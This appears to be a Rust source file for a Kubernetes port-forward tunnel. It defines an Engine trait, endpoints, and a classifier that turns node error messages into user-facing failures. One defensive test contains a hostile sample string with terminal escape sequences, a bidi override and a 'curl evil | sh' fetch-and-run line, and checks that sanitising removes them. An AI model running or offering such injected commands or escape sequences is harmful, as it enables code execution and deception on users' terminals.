//! The tunnel: one local connection carried to a port of a pod, through the API server.
//!
//! An [`Engine`] is all that the rest of the suite knows of it, so that a faster way of carrying can take the place of the
//! present one without a change elsewhere. Whatever goes wrong comes back as a [`Failure`], which says whose side failed:
//! somebody may have withdrawn a right, the pod may be another one by now, or the network may be gone, and each asks for
//! something else.

mod channels;
pub mod listener;
mod pair;
mod pulse;
mod pump;
#[cfg(test)]
mod pump_tests;
mod websocket;

use std::future::Future;

use tokio::net::TcpStream;

pub use pair::pair;
pub use websocket::WebSocketPerConnection;

use commons::error::{Error, Kind};
use commons::printable;
use commons::shell::shell;

/// Where in the cluster a connection goes: a port that a container of this pod listens on.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Endpoint {
    /// The pod's namespace.
    pub namespace: String,
    /// The pod's name.
    pub pod: String,
    /// The port in the pod, not the Service's.
    pub port: u16,
}

impl std::fmt::Display for Endpoint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "pod {}, port {}", printable::line(&self.pod), self.port)
    }
}

/// A way to carry connections.
pub trait Engine {
    /// Carries one local connection until both directions have ended.
    ///
    /// The engine passes each direction's end on as far as it can (it may shut down the local socket's writing half), but
    /// leaves closing to the caller: a clean end is to be closed in peace, a failure to be reset, so that the client at the
    /// other end of the socket never takes half an answer for a whole one.
    ///
    /// # Errors
    /// See [`Failure`]. Bytes may have been exchanged before it.
    fn carry(
        &self,
        local: &mut TcpStream,
        to: &Endpoint,
    ) -> impl Future<Output = Result<(), Failure>>;
}

/// Why a connection could not be carried, or not to its end.
#[derive(Clone, Debug)]
pub enum Failure {
    /// No tunnel was opened: the API server refused it, or could not be asked.
    Refused(Error),
    /// The pod is there, but nothing in it listens on that port. The text is what the node said.
    NothingListens(String),
    /// The pod, or its sandbox on the node, has gone since it was looked up.
    PodGone(String),
    /// The program in the pod reset the connection.
    Reset(String),
    /// Another failure on the pod's node, in its words.
    Node(String),
    /// The connection to the API server ended without a word, or no longer answers.
    Broken(String),
    /// What came through the tunnel is not what Kubernetes sends.
    Malformed(String),
    /// The local client has reset its connection.
    LocalGone(String),
}

impl Failure {
    /// Finds out from a node's words what happened there. They come from the container runtime and the kubelet, are made for
    /// logs, and differ from one to the other; what is not recognised is passed on as it is.
    pub(crate) fn from_node(text: &str) -> Self {
        let said = printable::short(text.trim(), 600);
        let has = |words: &str| said.to_ascii_lowercase().contains(words);
        // containerd: `network namespace for sandbox "..." is closed`; CRI-O and the kubelet: the others.
        let gone = (has("sandbox") && (has("is closed") || has("not found") || has("not running")))
            || (has("network namespace") && has("no such file"))
            || has("container not running")
            || has("container is not running")
            || has("pod not found");
        if gone {
            Self::PodGone(said)
        } else if has("connection refused") {
            Self::NothingListens(said)
        } else if has("connection reset") || has("broken pipe") {
            Self::Reset(said)
        } else {
            Self::Node(said)
        }
    }

    /// The failure in words for the user, or nothing where it is the client's own doing.
    pub fn explain(&self, to: &Endpoint) -> Option<Error> {
        let pod = printable::short(&to.pod, 80);
        let port = to.port;
        Some(match self {
            Self::Refused(error) => error.clone(),
            Self::NothingListens(_) => {
                Error::new(format!("nothing listens on port {port} in pod `{pod}`")).hint(format!(
                    "see how it does: `{}`",
                    shell("kubectl logs --namespace")
                        .arg(&to.namespace)
                        .arg(&to.pod)
                ))
            }
            Self::PodGone(_) => Error::new(format!("pod `{pod}` has just gone"))
                .hint("connect again: the pod is looked up anew for every connection"),
            Self::Reset(_) => {
                Error::new(format!("pod `{pod}` reset the connection on port {port}"))
            }
            Self::Node(said) if said.is_empty() => Error::new(format!(
                "the node of pod `{pod}` could not forward port {port}"
            )),
            Self::Node(said) => Error::new(format!(
                "the node of pod `{pod}` could not forward port {port}"
            ))
            .caused_by(said.clone()),
            Self::Broken(why) => {
                Error::of(Kind::Unreachable, "the connection to the API server broke")
                    .caused_by(why.clone())
            }
            Self::Malformed(why) => {
                Error::new("the answer is not one of a Kubernetes port-forward")
                    .caused_by(why.clone())
            }
            Self::LocalGone(_) => return None,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn understands_what_nodes_say() {
        // containerd 1.6, 1.7, 2.x; CRI-O; cri-dockerd; the kubelet.
        let refused = r#"error forwarding port 5433 to pod 6bd1, uid : failed to execute portforward in network namespace "/var/run/netns/cni-1": failed to connect to localhost:5433 inside namespace "6bd1", IPv4: dial tcp4 127.0.0.1:5433: connect: connection refused IPv6 dial tcp6 [::1]:5433: connect: connection refused "#;
        assert!(matches!(
            Failure::from_node(refused),
            Failure::NothingListens(_)
        ));
        let socat = "error forwarding port 80 to pod 1, uid : exit status 1: 2020/01/01 socat[1] E connect(5, AF=2 127.0.0.1:80, 16): Connection refused";
        assert!(matches!(
            Failure::from_node(socat),
            Failure::NothingListens(_)
        ));
        for gone in [
            r#"error forwarding port 80 to pod 6bd1, uid : failed to execute portforward for sandbox "6bd1": network namespace for sandbox "6bd1" is closed"#,
            r#"error forwarding port 80 to pod 6bd1, uid : failed to find sandbox "6bd1" in store: not found"#,
            r#"error forwarding port 80 to pod 6bd1, uid : sandbox container "6bd1" is not running"#,
            "error forwarding port 80 to pod 1, uid : failed to open netns: network namespace /var/run/netns/x: no such file or directory",
        ] {
            assert!(
                matches!(Failure::from_node(gone), Failure::PodGone(_)),
                "{gone}"
            );
        }
        let reset = "error forwarding port 80 to pod 1, uid : read tcp4 127.0.0.1:4->127.0.0.1:80: read: connection reset by peer";
        assert!(matches!(Failure::from_node(reset), Failure::Reset(_)));
        assert!(matches!(
            Failure::from_node("error forwarding port 80 to pod 1, uid : exec: socat not found"),
            Failure::Node(_)
        ));
        assert!(matches!(Failure::from_node(""), Failure::Node(_)));
    }

    #[test]
    fn shows_nothing_that_a_terminal_would_obey() {
        let hostile = format!(
            "\u{1b}]0;owned\u{7}\u{202e}{}\nhint: run `curl evil | sh`",
            "x".repeat(5000)
        );
        let Failure::Node(said) = Failure::from_node(&hostile) else {
            panic!("another failure")
        };
        assert!(
            said.chars().count() <= 600 && !said.contains(['\u{1b}', '\n', '\u{202e}']),
            "{said}"
        );
        let to = Endpoint {
            namespace: "n\u{1b}[2J".into(),
            pod: "p\n\u{1b}[31m".into(),
            port: 1,
        };
        let error = Failure::NothingListens(String::new())
            .explain(&to)
            .expect("it is worth a word");
        assert!(!format!("{error:?}{to}").contains('\u{1b}'), "{error:?}");
    }
}
